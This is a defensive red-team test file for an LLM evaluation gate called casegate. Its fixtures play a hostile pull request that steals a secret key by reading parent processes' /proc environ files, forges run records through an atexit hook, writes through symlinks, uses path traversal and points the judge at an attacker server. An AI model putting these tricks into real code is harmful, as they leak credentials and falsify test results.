"""Red team: a pull request's author against the held-out slice and the results history.

Each test plays one attack and asserts the safe behaviour, so an attack that works shows
as a failing test. The attacker controls every file a pull request can commit (configs,
cases, recordings, python systems, custom checks, sealed files, history exports and the
`.casegate/` folder), never the workflow, the base commit or the secrets.
"""

from __future__ import annotations

import json
import sqlite3
import subprocess
from pathlib import Path

import pytest

from tests.fakes.llm_server import FakeLLMServer, Received, Reply
from tests.holdout.test_holdout_helpers import KEY_TEXT, casegate

SECRET_QUESTIONS = ("HELDOUT-ALPHA-7731 refund?", "HELDOUT-BETA-9044 tracking?")
HELD = f"""
- id: h-alpha
  input: {{question: "{SECRET_QUESTIONS[0]}"}}
  expect: {{contains: echo}}
- id: h-beta
  input: {{question: "{SECRET_QUESTIONS[1]}"}}
  expect: {{contains: echo}}
"""
HELD_JUDGED = f"""
- id: h-judged
  input: {{question: "{SECRET_QUESTIONS[0]}"}}
  expect: {{judge: {{rubric: polite}}}}
"""


def _git(root: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=root, check=True, capture_output=True, text=True
    ).stdout.strip()


def _commit_base(root: Path) -> None:
    _git(root, "init", "-q", "-b", "main")
    _git(root, "add", "-A")
    _git(root, "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-qm", "base")


def _replace(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new))


def _replies(received: Received) -> Reply:
    if received.body.get("model") == "judge-m":
        return Reply(text="PASS: polite enough")
    return Reply(text=f"echo: {received.last_user_text}")


def _hosted_suite(root: Path, server: FakeLLMServer, held: str, judge: bool = False) -> Path:
    """A suite on a hosted (openai) system at `server`, a sealed slice, recorded, with a
    baseline that scored the slice, committed as the base branch `main`."""
    (root / "cases").mkdir()
    (root / "cases" / "main.yaml").write_text(
        "- id: r0\n  input: {question: q0}\n  expect: {contains: echo}\n"
    )
    judge_pin = (
        f"judge: {{provider: openai, model: judge-m, base_url: '{server.url}/v1', "
        "max_retries: 0, timeout_s: 5}\n"
        if judge
        else ""
    )
    config = root / "casegate.yml"
    config.write_text(
        "suite: s\ncases: cases\n"
        f"system: {{name: n, provider: openai, model: model-a, base_url: '{server.url}/v1', "
        "message: '{{ question }}', max_retries: 0, timeout_s: 5}\n"
        f"{judge_pin}"
        "recordings: recordings\nbaseline: baselines/s.json\nholdout: holdout/s\n"
        "gate:\n  holdout_max_drop: 0.05\n"
    )
    (root / "held.yaml").write_text(held)
    added = casegate("holdout", "add", "held.yaml", cwd=root, key=KEY_TEXT)
    assert added.returncode == 0, added.stderr
    (root / "held.yaml").unlink(missing_ok=True)
    recorded = casegate("record", cwd=root, key=KEY_TEXT)
    assert recorded.returncode == 0, recorded.stdout + recorded.stderr
    baseline = casegate("baseline", cwd=root, key=KEY_TEXT)
    assert baseline.returncode == 0, baseline.stdout + baseline.stderr
    assert "held-out slice: " in baseline.stdout, baseline.stdout
    _commit_base(root)
    return config


# --- (b) the held-out inputs and the key must not reach the pull request's server ------


@pytest.fixture
def servers(monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-openai-4f1c9d2b7a")
    for variable in ("OPENAI_BASE_URL", "GITHUB_ACTIONS", "CASEGATE_HOLDOUT_KEY"):
        monkeypatch.delenv(variable, raising=False)
    with FakeLLMServer(_replies) as trusted, FakeLLMServer(_replies) as attacker:
        yield trusted, attacker


def test_live_check_never_sends_held_out_inputs_to_the_pull_requests_base_url(
    tmp_path: Path, servers: tuple[FakeLLMServer, FakeLLMServer]
) -> None:
    trusted, attacker = servers
    config = _hosted_suite(tmp_path, trusted, HELD)
    # The pull request points its (hosted, openai) system at a server its author runs.
    _replace(config, f"{trusted.url}/v1", f"{attacker.url}/v1")
    casegate("check", "--base", "main", "--mode", "live", cwd=tmp_path, key=KEY_TEXT)
    seen = json.dumps([r.body for r in attacker.received])
    for question in SECRET_QUESTIONS:
        assert question not in seen, "the gate process sent a held-out input to the PR's server"


def test_live_check_never_sends_the_key_to_a_judge_pin_the_pull_request_chose(
    tmp_path: Path, servers: tuple[FakeLLMServer, FakeLLMServer]
) -> None:
    trusted, attacker = servers
    config = _hosted_suite(tmp_path, trusted, HELD_JUDGED, judge=True)
    # Only held-out cases ask the judge, so the supervised run never builds it; the gate's
    # own process does, with the pull request's pin, reading the "API key" it names.
    _replace(
        config,
        f"model: judge-m, base_url: '{trusted.url}/v1'",
        f"model: judge-m, base_url: '{attacker.url}/v1', api_key_env: CASEGATE_HOLDOUT_KEY",
    )
    casegate("check", "--base", "main", "--mode", "live", cwd=tmp_path, key=KEY_TEXT)
    headers = json.dumps([r.headers for r in attacker.received])
    bodies = json.dumps([r.body for r in attacker.received])
    assert KEY_TEXT not in headers, "the slice's key went out as the judge's bearer token"
    assert SECRET_QUESTIONS[0] not in bodies


# --- (a) the slice regressed, the gate must not ship ------------------------------------


def test_switching_to_a_python_system_in_live_mode_does_not_skip_the_rule(
    tmp_path: Path, servers: tuple[FakeLLMServer, FakeLLMServer]
) -> None:
    trusted, _ = servers
    config = _hosted_suite(tmp_path, trusted, HELD)
    # The pull request's own system: right on the readable case, wrong on every other input.
    (tmp_path / "bot.py").write_text(
        "def answer(case_input, system):\n"
        "    q = case_input['question']\n"
        "    return 'echo: ' + q if q == 'q0' else 'no idea'\n"
    )
    text = config.read_text()
    start = text.index("system: {")
    end = text.index("\n", start)
    config.write_text(
        text[:start] + "system: {name: n, provider: python, target: 'bot:answer'}" + text[end:]
    )
    checked = casegate("check", "--base", "main", "--mode", "live", cwd=tmp_path, key=KEY_TEXT)
    out = checked.stdout + checked.stderr
    assert checked.returncode != 0, (
        "the gate shipped: the slice was skipped (the system is a python one) and "
        f"holdout_max_drop was not applied:\n{out}"
    )


# --- (b) the supervised child reading the key from its parent ---------------------------


def test_the_child_cannot_read_the_key_from_the_gate_process_proc_environ(
    tmp_path: Path,
) -> None:
    leak = tmp_path / "seen.txt"
    (tmp_path / "bot.py").write_text(
        "def answer(case_input, system):\n    return 'echo: ' + case_input['question']\n"
    )
    (tmp_path / "snoop.py").write_text(
        "import os\n"
        "def ok(text, case):\n"
        "    found = []\n"
        "    pid = os.getppid()\n"
        "    while pid > 1:\n"
        "        try:\n"
        "            found.append(open(f'/proc/{pid}/environ', 'rb').read().decode('latin-1'))\n"
        "            status = open(f'/proc/{pid}/status').read()\n"
        "            pid = int(status.split('PPid:')[1].split()[0])\n"
        "        except OSError:\n"
        "            break\n"
        f"    open({str(leak)!r}, 'a').write(repr(found))\n"
        "    return True\n"
    )
    (tmp_path / "cases").mkdir()
    (tmp_path / "cases" / "main.yaml").write_text(
        "- id: r0\n  input: {question: q0}\n  expect: {contains: q0, check: 'snoop:ok'}\n"
    )
    (tmp_path / "casegate.yml").write_text(
        "suite: s\ncases: cases\nsystem: {name: n, provider: python, target: 'bot:answer'}\n"
        "recordings: recordings\nbaseline: baselines/s.json\nholdout: holdout/s\n"
    )
    (tmp_path / "held.yaml").write_text(HELD)
    assert casegate("holdout", "add", "held.yaml", cwd=tmp_path, key=KEY_TEXT).returncode == 0
    assert casegate("record", cwd=tmp_path, key=KEY_TEXT).returncode == 0
    assert casegate("baseline", cwd=tmp_path, key=KEY_TEXT).returncode == 0
    if leak.exists():
        leak.unlink()
    checked = casegate("check", cwd=tmp_path, key=KEY_TEXT)
    assert "held-out slice: 2/2 pass" in checked.stdout, checked.stdout + checked.stderr
    assert leak.is_file()  # the snoop ran, in the supervised child
    assert KEY_TEXT not in leak.read_text(), "the child read the key from /proc/PPID/environ"


# --- (c) the History section: the candidate's identity is the child's to write ----------

OLD_RUN = {"config_hash": "0f0f0f0f0f0f0f0f", "created_at": "2026-01-05T10:00:00+00:00"}


def _history_line(case: str, verdict: str, run: dict[str, str], commit: str) -> str:
    record = {
        "schema": "casegate.history/1",
        "suite": "s",
        "case": case,
        "version": 1,
        "system": "n",
        "commit": commit,
        "mode": "live",
        "verdict": verdict,
        "pass_rate": 1.0 if verdict == "pass" else 0.0,
        "weight": 1.0,
        **run,
    }
    return json.dumps(record, sort_keys=True) + "\n"


def test_a_forged_candidate_identity_cannot_hide_that_a_regressed_case_failed_before(
    tmp_path: Path,
) -> None:
    (tmp_path / "bot.py").write_text(
        "def answer(case_input, system):\n    return 'echo: ' + case_input['question']\n"
    )
    (tmp_path / "cases").mkdir()
    (tmp_path / "cases" / "main.yaml").write_text(
        "- id: r0\n  input: {question: q0}\n  expect: {contains: q0}\n"
        "- id: r1\n  input: {question: q1}\n  expect: {contains: q1}\n"
    )
    (tmp_path / "casegate.yml").write_text(
        "suite: s\ncases: cases\nsystem: {name: n, provider: python, target: 'bot:answer'}\n"
        "recordings: recordings\nbaseline: baselines/s.json\n"
    )
    made = casegate("baseline", "--mode", "live", cwd=tmp_path)
    assert made.returncode == 0, made.stdout + made.stderr
    # The base's history: r1 failed in an older run, then passed.
    (tmp_path / "history").mkdir()
    (tmp_path / "history" / "s.jsonl").write_text(
        _history_line("r0", "pass", OLD_RUN, "a" * 40)
        + _history_line("r1", "fail", OLD_RUN, "a" * 40)
    )
    _commit_base(tmp_path)
    # The pull request breaks r1 and, at the child's exit, rewrites the run's identity to
    # the old run's, which the report then leaves out as "the candidate itself".
    (tmp_path / "bot.py").write_text(
        "import atexit, json, sys\n"
        "def answer(case_input, system):\n"
        "    return 'nothing' if case_input['question'] == 'q1' else 'echo: q0'\n"
        "def _forge():\n"
        "    try:\n"
        "        out = json.load(open(sys.argv[-1]))['out']\n"
        "        data = json.load(open(out))\n"
        f"        data.update({OLD_RUN!r})\n"
        "        json.dump(data, open(out, 'w'))\n"
        "    except Exception:\n"
        "        pass\n"
        "atexit.register(_forge)\n"
    )
    checked = casegate("check", "--base", "main", "--mode", "live", cwd=tmp_path)
    report = tmp_path / ".casegate" / "s-report.md"
    text = report.read_text() if report.is_file() else ""
    assert "#### History" in text, checked.stdout + checked.stderr
    assert "r1" in text
    # It says "No run of this suite is recorded … yet" and "r1: not in the history yet".
    assert "not in the history yet" not in text, "the report hides r1's failure of 2026-01-05"
    assert "never failed" not in text
    assert "2026-01-05 (fail" in text


# --- (d) `casegate history add` writes only the export and its cache --------------------


def _run_suite(root: Path) -> Path:
    (root / "bot.py").write_text(
        "def answer(case_input, system):\n    return 'echo: ' + case_input['question']\n"
    )
    (root / "cases").mkdir()
    (root / "cases" / "main.yaml").write_text(
        "- id: r0\n  input: {question: q0}\n  expect: {contains: q0}\n"
    )
    (root / "casegate.yml").write_text(
        "suite: s\ncases: cases\nsystem: {name: n, provider: python, target: 'bot:answer'}\n"
        "recordings: recordings\nbaseline: baselines/s.json\n"
    )
    ran = casegate("baseline", "--mode", "live", cwd=root)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    return root / "baselines" / "s.json"


@pytest.mark.parametrize("where", ["../outside/s.jsonl", "ABSOLUTE"])
def test_history_add_does_not_write_an_export_outside_the_repository(
    tmp_path: Path, where: str
) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    results = _run_suite(repo)
    outside = tmp_path / "outside" / "s.jsonl"
    target = str(outside) if where == "ABSOLUTE" else where
    config = repo / "casegate.yml"
    config.write_text(config.read_text() + f"history: '{target}'\n")
    added = casegate("history", "add", str(results), "--commit", "c" * 40, cwd=repo)
    assert not outside.exists(), f"history add wrote {outside}: {added.stdout}"
    assert added.returncode == 2, added.stdout + added.stderr


def test_history_add_does_not_follow_a_committed_cache_link_out_of_the_repository(
    tmp_path: Path,
) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    results = _run_suite(repo)
    victim = tmp_path / "victim.db"
    (repo / ".casegate").mkdir(exist_ok=True)
    link = repo / ".casegate" / "history.sqlite"
    if link.exists() or link.is_symlink():
        link.unlink()
    link.symlink_to(victim)
    added = casegate("history", "add", str(results), "--commit", "c" * 40, cwd=repo)
    assert not victim.exists(), f"history add created {victim} through the link: {added.stdout}"


def test_an_export_line_that_is_a_link_is_not_written_through(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    results = _run_suite(repo)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (repo / "history").mkdir()
    (repo / "history" / "s.jsonl").symlink_to(victim)
    casegate("history", "add", str(results), "--commit", "c" * 40, cwd=repo)
    assert victim.read_text() == "precious\n", "history add appended through a committed link"


# --- (c) a doctored cache is only a cache: one line, exit 2, never a traceback ---------


@pytest.mark.parametrize(
    ("command", "column", "value"),
    [
        (("history", "case", "r0"), "version", "'one'"),
        (("history", "flips"), "verdict", "'maybe'"),
        (("history", "trend"), "pass_rate", "'high'"),
    ],
)
def test_a_doctored_cache_in_step_with_its_export_never_crashes(
    tmp_path: Path, command: tuple[str, ...], column: str, value: str
) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    results = _run_suite(repo)
    for commit in ("a" * 40, "b" * 40):
        added = casegate("history", "add", str(results), "--commit", commit, cwd=repo)
        assert added.returncode == 0, added.stdout + added.stderr
    db = repo / ".casegate" / "history.sqlite"
    assert db.is_file()
    # Committed with the export: its meta (size, sha256, path) matches, so it is believed.
    with sqlite3.connect(db) as connection:
        connection.execute(f"UPDATE records SET {column} = {value}")  # noqa: S608 - test constants
    connection.close()
    answered = casegate(*command, cwd=repo)
    assert "Traceback" not in answered.stderr, answered.stderr[-2000:]
    assert answered.returncode in (0, 2), answered.stdout + answered.stderr


# --- (b) held-out ids through a readable case's id -------------------------------------


def test_a_readable_case_named_like_a_held_out_one_tells_nothing(tmp_path: Path) -> None:
    (tmp_path / "bot.py").write_text(
        "def answer(case_input, system):\n    return 'echo: ' + case_input['question']\n"
    )
    (tmp_path / "cases").mkdir()
    main = tmp_path / "cases" / "main.yaml"
    main.write_text("- id: r0\n  input: {question: q0}\n  expect: {contains: q0}\n")
    (tmp_path / "casegate.yml").write_text(
        "suite: s\ncases: cases\nsystem: {name: n, provider: python, target: 'bot:answer'}\n"
        "recordings: recordings\nbaseline: baselines/s.json\nholdout: holdout/s\n"
    )
    (tmp_path / "held.yaml").write_text(HELD)
    assert casegate("holdout", "add", "held.yaml", cwd=tmp_path, key=KEY_TEXT).returncode == 0
    assert casegate("record", cwd=tmp_path, key=KEY_TEXT).returncode == 0
    assert casegate("baseline", cwd=tmp_path, key=KEY_TEXT).returncode == 0

    def probe(guess: str) -> str:
        main.write_text(
            "- id: r0\n  input: {question: q0}\n  expect: {contains: q0}\n"
            f"- id: {guess}\n  input: {{question: q9}}\n  expect: {{contains: q9}}\n"
        )
        found = casegate("record", cwd=tmp_path, key=KEY_TEXT)
        checked = casegate("check", cwd=tmp_path, key=KEY_TEXT)
        text = found.stdout + found.stderr + checked.stdout + checked.stderr
        return text.replace(guess, "GUESS").replace(str(tmp_path), "ROOT")

    def normal(text: str) -> str:
        import re

        kept = [line for line in text.splitlines() if "latency" not in line]
        return re.sub(r"\d{4}-\d\d-\d\dT[\d:.+]+", "T", "\n".join(kept))

    assert normal(probe("h-alpha")) == normal(probe("h-zzzzz")), (
        "a readable case's id says whether a held-out case has it"
    )


# --- (a) the slice's recordings are the pull request's: dropping them must not ship -----


@pytest.mark.parametrize("how", ["delete", "empty-sealed-by-base"])
def test_dropping_the_slices_recordings_does_not_ship(tmp_path: Path, how: str) -> None:
    (tmp_path / "bot.py").write_text(
        "def answer(case_input, system):\n    return 'echo: ' + case_input['question']\n"
    )
    (tmp_path / "cases").mkdir()
    (tmp_path / "cases" / "main.yaml").write_text(
        "- id: r0\n  input: {question: q0}\n  expect: {contains: q0}\n"
    )
    (tmp_path / "casegate.yml").write_text(
        "suite: s\ncases: cases\nsystem: {name: n, provider: python, target: 'bot:answer'}\n"
        "recordings: recordings\nbaseline: baselines/s.json\nholdout: holdout/s\n"
        "gate:\n  holdout_max_drop: 0.05\n"
    )
    (tmp_path / "held.yaml").write_text(HELD)
    assert casegate("holdout", "add", "held.yaml", cwd=tmp_path, key=KEY_TEXT).returncode == 0
    sealed = tmp_path / "holdout" / "s" / "recordings.sealed"
    empty = sealed.read_text() if sealed.is_file() else None  # before any recording
    assert casegate("record", cwd=tmp_path, key=KEY_TEXT).returncode == 0
    assert casegate("baseline", cwd=tmp_path, key=KEY_TEXT).returncode == 0
    _commit_base(tmp_path)
    if how == "delete" or empty is None:
        sealed.unlink()
    else:
        sealed.write_text(empty)
    checked = casegate("check", "--base", "main", cwd=tmp_path, key=KEY_TEXT)
    assert checked.returncode in (1, 2), checked.stdout + checked.stderr
    assert "h-alpha" not in checked.stdout + checked.stderr
